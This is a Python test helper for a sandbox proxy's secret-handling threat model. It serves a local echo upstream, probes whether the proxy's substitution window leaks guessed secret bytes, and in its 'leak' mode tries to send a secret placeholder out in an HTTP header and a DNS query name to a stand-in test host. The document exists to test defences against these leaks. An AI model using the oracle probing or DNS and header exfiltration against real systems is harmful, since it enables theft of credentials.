#!/usr/bin/env python3
"""The secret hold is not an oracle (docs/threat-model.md): tools for
secrets_oracle.sh.

  serve                 a plain HTTP upstream on 127.0.0.1 that reflects the
                        bytes it is asked to, then pauses until released;
                        prints its port
  probe PORT [cl] GUESS[+REST]...
                        inside the sandbox: for each guess (hex), fetch
                        /echo through warden's proxy, and print as JSON what
                        arrived before the upstream's pause and after it
                        (REST, hex, is sent after the pause)
                        (cl: the response has a Content-Length, else it
                        runs to the close)
  leak PORT N [dns]     inside the sandbox: N requests carrying the
                        placeholder in $TOK where no rule binds it (and with
                        dns, one DNS query for a name holding it); prints
                        the statuses

The echo's body is FILL bytes of 'A', then the guess; the upstream sends it
in one write, then waits for /release.  The probe learns that the proxy
has dealt with those bytes without a timer: it reads until at least
FILL - LONGEST bytes of body arrived (less than any window passes), then makes
two round trips through the proxy to /sync, which answers only after the
echo's write.  The proxy handles every ready descriptor of an epoll_wait
before the next one, and the second /sync request is read in a later
epoll_wait than the one that saw /sync's first answer, which came after
the echo's bytes; so by the second answer the echo's bytes were read and
what the proxy passes on at once is in the probe's socket (loopback
delivers on send).  Then what is there is read without waiting.
"""
import json
import os
import select
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

FILL = 600
LONGEST = 256  # the window while values encode to 256 bytes: less than FILL
WAIT = 120  # seconds: only a bound for a broken run, never a measurement


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def ok(self, body=b"ok"):
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def ev(self, kind, rid):
        with self.server.lock:
            return self.server.events.setdefault((kind, rid), threading.Event())

    def do_GET(self):
        u = urlsplit(self.path)
        q = {k: v[0] for k, v in parse_qs(u.query).items()}
        rid = q.get("id", "")
        if u.path == "/echo":
            guess = bytes.fromhex(q.get("g", ""))
            # close-delimited (or a Content-Length that counts the "|END"
            # still to come): the body does not end here, so nothing but
            # the window decides what is passed on early
            framing = (b"Content-Length: %d\r\n" %
                       (FILL + len(guess) + len(q.get("rest", "")) // 2 + 4)
                       if q.get("cl") else b"")
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n" + framing +
                             b"Connection: close\r\n\r\n" + b"A" * FILL + guess)
            self.wfile.flush()
            self.ev("sent", rid).set()
            self.ev("release", rid).wait(WAIT)
            self.wfile.write(bytes.fromhex(q.get("rest", "")) + b"|END")
            self.wfile.flush()
            self.close_connection = True
        elif u.path == "/sync":
            self.ev("sent", rid).wait(WAIT)
            self.ok()
        elif u.path == "/release":
            self.ev("release", rid).set()
            self.ok()
        else:
            self.ok(b"hello")


def serve():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    srv.daemon_threads = True
    srv.handle_error = lambda *a: None
    srv.lock, srv.events = threading.Lock(), {}
    print(srv.server_address[1], flush=True)
    srv.serve_forever()


PROXY = ("127.0.0.1", 3128)


def request(sock, host, path, keep=True):
    sock.sendall(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" %
                  (host, path, host, "" if keep else "Connection: close\r\n")).encode())


def read_response(sock):
    """One response with a Content-Length body (the /sync and /release
    answers): its body."""
    buf = b""
    deadline = time.monotonic() + WAIT
    while b"\r\n\r\n" not in buf:
        buf += recv_some(sock, deadline)
    head, _, body = buf.partition(b"\r\n\r\n")
    n = 0
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    while len(body) < n:
        body += recv_some(sock, deadline)
    return head.split(b"\r\n")[0].decode() + " " + body.decode("latin-1")


def recv_some(sock, deadline):
    left = deadline - time.monotonic()
    if left <= 0 or not select.select([sock], [], [], left)[0]:
        raise SystemExit("no answer within %d s" % WAIT)
    d = sock.recv(65536)
    if not d:
        raise SystemExit("connection closed early")
    return d


def body_of(buf):
    return buf.partition(b"\r\n\r\n")[2] if b"\r\n\r\n" in buf else b""


def probe_one(host, rid, guess, cl, rest=b""):
    a = socket.create_connection(PROXY)
    request(a, host, "/echo?id=%s&g=%s%s&rest=%s" % (rid, guess.hex(), "&cl=1" if cl else "",
                                                      rest.hex()), keep=False)
    got = b""
    deadline = time.monotonic() + WAIT
    want = FILL - LONGEST
    while len(body_of(got)) < want:
        got += recv_some(a, deadline)
    b = socket.create_connection(PROXY)
    sync = []
    for _ in range(2):
        request(b, host, "/sync?id=%s" % rid)
        sync.append(read_response(b))
    a.setblocking(False)
    while True:
        try:
            d = a.recv(65536)
        except BlockingIOError:
            break
        if not d:
            break
        got += d
    before = body_of(got)
    request(b, host, "/release?id=%s" % rid)
    sync.append(read_response(b))
    b.close()
    a.setblocking(True)
    a.settimeout(WAIT)
    while True:
        d = a.recv(65536)
        if not d:
            break
        got += d
    a.close()
    return {"guess": guess.decode("latin-1"), "before": len(before),
            "before_tail": before[-len(guess) - 8:].decode("latin-1"),
            "body": body_of(got).decode("latin-1"), "sync": sync}


def probe(port, *guesses):
    host = "echo.test:%s" % port
    cl = guesses[:1] == ("cl",)
    out = []
    for i, g in enumerate(guesses[1:] if cl else guesses):
        # GUESS[+REST]: REST is sent after the pause
        g, _, rest = g.partition("+")
        # a fresh id per probe: pids repeat from one sandbox to the next
        out.append(probe_one(host, os.urandom(8).hex(), bytes.fromhex(g), cl,
                             bytes.fromhex(rest)))
    print(json.dumps(out))


def leak(port, n, dns=None):
    tok = os.environ["TOK"]
    if dns:
        try:
            socket.getaddrinfo(tok + ".echo.test", 80)
        except OSError:
            pass  # refused: REFUSED is the answer
    host = "echo.test:%s" % port
    codes = []
    for i in range(int(n)):
        s = socket.create_connection(PROXY)
        s.sendall(("GET http://%s/?try=%d HTTP/1.1\r\nHost: %s\r\nX-Token: %s\r\n"
                   "Connection: close\r\n\r\n" % (host, i, host, tok)).encode())
        s.settimeout(WAIT)
        buf = b""
        while True:
            d = s.recv(65536)
            if not d:
                break
            buf += d
        codes.append(buf.split(b"\r\n")[0].decode("latin-1"))
    print(json.dumps(codes))


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    {"serve": serve, "probe": probe, "leak": leak}[cmd](*args)
